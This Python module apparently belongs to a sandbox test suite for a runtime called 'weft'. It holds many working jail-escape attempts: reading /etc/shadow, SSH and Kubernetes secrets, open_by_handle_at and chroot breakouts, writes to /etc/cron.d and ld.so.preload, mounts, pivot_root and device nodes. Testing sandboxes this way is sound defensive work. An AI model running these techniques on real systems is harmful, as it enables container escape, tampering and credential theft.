"""Attacks on files of the machine, of the handler and of other runs. See weft's `attacking`."""

from attacking import (
    AT_FDCWD,
    Aim,
    Loot,
    armed,
    attack,
    child,
    ctypes,
    entries,
    libc,
    open_raw,
    read,
    syscall,
    write,
)

os = armed("os")

struct, fcntl = armed("struct"), armed("fcntl")
_SYSTEM = (
    "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bashrc", "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys",
    "/etc/ssh/ssh_host_rsa_key", "/etc/ssl/private/ssl-cert-snakeoil.key", "/var/log/dpkg.log", "/var/log/syslog",
    "/var/lib/dpkg/status", "/etc/machine-id", "/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/docker.sock", "/dev/vda", "/dev/sda", "/dev/mem",
)  # fmt: skip


def _wanted(aim: Aim) -> dict[str, str]:
    """Files with planted secrets, by what they are."""
    return dict(aim.files or {})


def _prefixes(aim: Aim) -> list[str]:
    pids = [pid for pid in (1, aim.handler, aim.zygote, aim.victim) if pid]
    return ["/proc/self/root", "/proc/thread-self/root", *(f"/proc/{pid}/root" for pid in pids)]


@attack
def secrets_by_path(aim: Aim, loot: Loot) -> None:
    """Planted files, by their own paths."""
    for what, path in _wanted(aim).items():
        loot.attempt(what, read, path)


@attack
def secrets_by_detour(aim: Aim, loot: Loot) -> None:
    """The same by `..`, by links, by the roots of /proc."""
    up = "../" * 30
    for what, path in _wanted(aim).items():
        loot.attempt(f"{what} by ..", read, up + path.lstrip("/"))
        loot.attempt(f"{what} by cwd", read, "/proc/self/cwd/" + up + path.lstrip("/"))
        for number, prefix in enumerate(_prefixes(aim)):
            loot.attempt(f"{what} by {prefix}", read, prefix + path)
            link = f"link-{number}-{abs(hash(what))}"
            loot.attempt(
                f"{what} by a link",
                lambda link=link, path=prefix + path: (os.symlink(path, link), read(link))[1],
            )


@attack
def secrets_by_hard_link(aim: Aim, loot: Loot) -> None:
    """A second name for a file that can't be read."""
    for number, (what, path) in enumerate(_wanted(aim).items()):
        loot.attempt(what, lambda path=path, name=f"hard-{number}": os.link(path, name) or "linked")


@attack
def secrets_by_rename(aim: Aim, loot: Loot) -> None:
    """A file moved to where it can be read, and one moved over it. The victim would notice."""
    for number, (what, path) in enumerate(_wanted(aim).items()):
        if "other run" in what or "outside" in what:
            loot.attempt(what, lambda path=path, name=f"moved-{number}": os.rename(path, name) or "moved")


@attack
def secrets_by_handle(aim: Aim, loot: Loot) -> None:
    """open_by_handle_at, with a handle of the file and with one that is guessed (the root folder is inode 2)."""
    types = ctypes()
    for what, path in {"/": "/", **_wanted(aim)}.items():

        def by_handle(path: str = path) -> str:
            handle = types.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
            mount = types.c_int()
            syscall("name_to_handle_at", AT_FDCWD, path, handle, types.byref(mount), 0)
            here = os.open(".", os.O_RDONLY)
            return "opened" if syscall("open_by_handle_at", here, handle, os.O_RDONLY) else ""

        loot.attempt(f"{what} by its handle", by_handle)

    def guessed() -> str:
        handle = types.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0))
        here = os.open(".", os.O_RDONLY)
        return "opened" if syscall("open_by_handle_at", here, handle, os.O_RDONLY) else ""

    loot.attempt("the root folder by a guessed handle", guessed)


@attack
def secrets_by_openat2(aim: Aim, loot: Loot) -> None:
    """The newer call, which old filters don't know."""
    types = ctypes()
    for what, path in _wanted(aim).items():

        def by_call(path: str = path) -> bytes:
            how = types.create_string_buffer(struct.pack("=QQQ", os.O_RDONLY, 0, 0))
            return os.read(syscall("openat2", AT_FDCWD, path, how, 24), 64)

        loot.attempt(what, by_call)


@attack
def machine_files(aim: Aim, loot: Loot) -> None:
    """What no step has to read."""
    for path in _SYSTEM:
        loot.attempt(path, read, path, 64)


@attack
def listings(aim: Aim, loot: Loot) -> None:
    """Folders of others."""
    for path in (
        "/root",
        "/home",
        "/var/log",
        "/mnt",
        "/media",
        "/boot",
        aim.home,
        aim.data,
        aim.scratch_of_all,
        aim.repository,
    ):
        if path:
            loot.attempt(path, entries, path)
    tmp = [
        name
        for name in (entries("/tmp") if os.path.isdir("/tmp") else [])
        if "weft" in name or "pytest" in name
    ]
    if tmp:
        loot.got("/tmp of others", tmp)
    loot.attempt("/dev/shm of others", lambda: [name for name in os.listdir("/dev/shm") if "outside" in name])
    up = os.path.dirname(os.getcwd())
    loot.attempt(
        "folders of other attempts",
        lambda: (
            [name for name in os.listdir(up) if name != os.path.basename(os.getcwd())]
            if "scratch" in up
            else []
        ),
    )


@attack
def engine_code(aim: Aim, loot: Loot) -> None:
    """The runtime's sources, past Python's own hooks."""
    for name in ("weft_runtime/worker.py", "weft_runtime/zygote.py", "weft_runtime/jail/cell.py"):
        loot.attempt(name, lambda name=name: read(f"{aim.engine}/{name}")[:60])


@attack
def write_outside(aim: Aim, loot: Loot) -> None:
    """A file of its own in every place that is not its scratch folder."""
    name = f"weft-attack-{aim.token}"
    bundle = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    folders = [
        "/", "/usr", "/usr/lib", "/usr/local", "/usr/local/bin", "/etc", "/etc/cron.d", "/opt", "/srv", "/var/tmp", "/var/cache", "/run",
        "/run/lock", "/home", "/root", "/dev", "/sys/fs/cgroup", "/proc/sys/kernel", bundle, bundle + "/workflows", aim.home, aim.data,
        aim.engine, aim.workspace, aim.victim_scratch, aim.scratch_of_all, aim.repository, *(aim.writable or ()),
    ]  # fmt: skip
    for folder in folders:
        # Where all workers have the same place for their folder, the victim's is this one by its name.
        if folder and os.path.realpath(folder) != os.getcwd():
            loot.attempt("written", write, f"{folder}/{name}")
            loot.attempt(
                "folder made", lambda folder=folder: os.mkdir(f"{folder}/{name}.d") or f"{folder}/{name}.d"
            )


@attack
def write_shared_places(aim: Aim, loot: Loot) -> None:
    """/tmp and /dev/shm as others see them; the suite looks there afterwards."""
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"):
        try:
            write(f"{folder}/weft-attack-{aim.token}-shared", b"mark of an attacker")
        except Exception:
            continue


@attack
def change_files(aim: Aim, loot: Loot) -> None:
    """Files of others: content, mode, owner, times, attributes, names."""
    for what, path in _wanted(aim).items():
        loot.attempt(
            f"{what} opened for writing",
            lambda path=path: os.close(open_raw(path, os.O_WRONLY | os.O_APPEND)) or "opened",
        )
        loot.attempt(f"{what} got a new mode", lambda path=path: os.chmod(path, 0o644) or "changed")
        loot.attempt(f"{what} got new times", lambda path=path: os.utime(path) or "changed")
        loot.attempt(
            f"{what} got an attribute", lambda path=path: os.setxattr(path, "user.attack", b"1") or "set"
        )
        loot.attempt(f"{what} was locked", lambda path=path: _locked(path))
    for path in (
        "/etc/passwd",
        "/etc/hosts",
        "/etc/resolv.conf",
        "/etc/ld.so.preload",
        "/usr/bin/env",
        aim.engine and f"{aim.engine}/weft/__init__.py",
    ):
        if path:
            loot.attempt(
                f"{path} opened for writing",
                lambda path=path: os.close(open_raw(path, os.O_WRONLY | os.O_APPEND)) or "opened",
            )


def _locked(path: str) -> str:
    fd = open_raw(path)
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    os.close(fd)
    return "locked"


@attack
def change_the_view(aim: Aim, loot: Loot) -> None:
    """What is put into a jail's own root for all workers: modes, times, links, content."""
    for path in (
        "/",
        "/etc",
        "/etc/resolv.conf",
        "/etc/passwd",
        "/dev",
        "/dev/null",
        "/usr/bin/env",
        "/tmp",
        "/proc/self/oom_score_adj",
    ):
        mode = os.stat(path).st_mode & 0o7777 if os.path.exists(path) else 0o755
        if os.path.realpath(path).startswith(os.getcwd()) or os.path.realpath(path) in os.getcwd():
            continue
        loot.attempt(f"mode of {path}", lambda path=path, mode=mode: os.chmod(path, mode) or "set")
        if path not in ("/dev/null", "/proc/self/oom_score_adj"):
            # Whoever may write to it may touch it; a device and the kernel's own files keep nothing.
            loot.attempt(f"times of {path}", lambda path=path: os.utime(path) or "set")
    loot.attempt("content of /etc/hosts", lambda: os.close(open_raw("/etc/hosts", os.O_RDWR)) or "opened")
    loot.attempt("less likely to be killed", lambda: write("/proc/self/oom_score_adj", b"-1000", os.O_WRONLY))


@attack
def watches_files(aim: Aim, loot: Loot) -> None:
    """inotify tells names of files that can't be opened, as they come and go."""
    libc().inotify_init1.restype = ctypes().c_int
    fd = libc().inotify_init1(os.O_NONBLOCK)
    for path in (
        aim.data,
        aim.scratch_of_all,
        aim.home,
        aim.victim_scratch,
        "/tmp",
        "/root",
        "/dev/shm",
        *_wanted(aim).values(),
    ):
        if (
            path
            and os.path.realpath(path) != os.getcwd()
            and not os.path.realpath(path).startswith("/jail/rw")
        ):
            loot.attempt(
                f"watch on {path}",
                lambda path=path: libc().inotify_add_watch(fd, path.encode(), 0xFFF) > 0 and "set",
            )


@attack
def bundle_changed(aim: Aim, loot: Loot) -> None:
    """The code that others run from the same bundle."""
    here = os.path.abspath(__file__)
    loot.attempt("own source opened", lambda: os.close(open_raw(here, os.O_WRONLY | os.O_APPEND)) or "opened")
    loot.attempt("mode changed", lambda: os.chmod(here, 0o666) or "changed")
    loot.attempt("file beside it", write, os.path.join(os.path.dirname(here), f"weft_attack_{aim.token}.py"))
    loot.attempt(
        "bytecode beside it", lambda: os.mkdir(os.path.join(os.path.dirname(here), "__pycache__")) or "made"
    )


@attack
def other_roots(aim: Aim, loot: Loot) -> None:
    """chroot out, pivot_root, mounts of every kind."""

    def out() -> bytes:
        os.mkdir("below")
        here = os.open("/", os.O_RDONLY)
        os.chroot("below")
        os.fchdir(here)
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
        return read("/etc/shadow", 32)

    def in_child() -> str:
        reading, writing = os.pipe()
        child(lambda: os.write(writing, out()))
        os.close(writing)
        return os.read(reading, 64).decode()

    loot.attempt("chroot", in_child)
    os.makedirs("mounted", exist_ok=True)
    for kind in ("tmpfs", "proc", "sysfs", "devtmpfs", "overlay", "cgroup2", "mqueue", "ramfs"):
        loot.attempt(f"mount of {kind}", lambda kind=kind: _mount(kind))
    loot.attempt("bind mount", lambda: _bind("/", "mounted"))
    loot.attempt(
        "remount", lambda: libc().mount(0, b"/proc", 0, ctypes().c_ulong(32 | 4096), 0) == 0 and "remounted"
    )
    loot.attempt("umount", lambda: _may_unmount())
    loot.attempt("pivot_root", lambda: syscall("pivot_root", "mounted", "mounted") == 0)
    loot.attempt("fsopen", lambda: syscall("fsopen", "tmpfs", 0) >= 0 and "opened")
    loot.attempt("open_tree", lambda: syscall("open_tree", AT_FDCWD, "/", 1) >= 0 and "cloned")


def _mount(kind: str) -> str:
    if libc().mount(b"none", b"mounted", kind.encode(), ctypes().c_ulong(0), 0) != 0:
        return ""
    libc().umount2(b"mounted", 2)
    return "mounted"


def _may_unmount() -> str:
    # MNT_EXPIRE unmounts nothing that is in use: EBUSY or EAGAIN say that it would be allowed.
    if libc().umount2(b"/proc", 4) == 0:
        return "unmounted"
    return "allowed" if ctypes().get_errno() in (11, 16) else ""


def _bind(source: str, target: str) -> str:
    if libc().mount(source.encode(), target.encode(), 0, ctypes().c_ulong(4096), 0) != 0:
        return ""
    libc().umount2(target.encode(), 2)
    return "bound"


@attack
def devices(aim: Aim, loot: Loot) -> None:
    """Device nodes of its own, and terminals."""
    for number, (what, major, minor) in enumerate(
        (("disk", 254, 0), ("mem", 1, 1), ("kmsg", 1, 11), ("null", 1, 3))
    ):
        loot.attempt(
            f"node of {what}",
            lambda n=number, a=major, b=minor: (
                os.mknod(f"node-{n}", 0o060600 if a > 1 else 0o020600, os.makedev(a, b)) or "made"
            ),
        )
    for path in (
        "/dev/tty",
        "/dev/ptmx",
        "/dev/console",
        "/dev/fuse",
        "/dev/kvm",
        "/dev/net/tun",
        "/dev/vsock",
        "/dev/loop-control",
        "/dev/userfaultfd",
        "/dev/snapshot",
    ):
        loot.attempt(path, lambda path=path: os.close(open_raw(path, os.O_RDWR)) or "opened")


@attack
def left_descriptor_to_folder(aim: Aim, loot: Loot) -> None:
    """A descriptor of a folder keeps what a mount hid: climb from the working directory by descriptors alone."""

    def climb() -> list[str]:
        fd = os.open(".", os.O_RDONLY)
        for _ in range(30):
            fd = open_raw("..", os.O_RDONLY | os.O_DIRECTORY, folder=fd)
        return [name for name in os.listdir(fd) if name in ("root", "home", "boot", "work", "mnt")]

    found = loot.attempt("climbed to", lambda: [name for name in climb() if _peek("/" + name)])
    del found


def _peek(path: str) -> bool:
    try:
        return bool(os.listdir(path))
    except OSError:
        return False
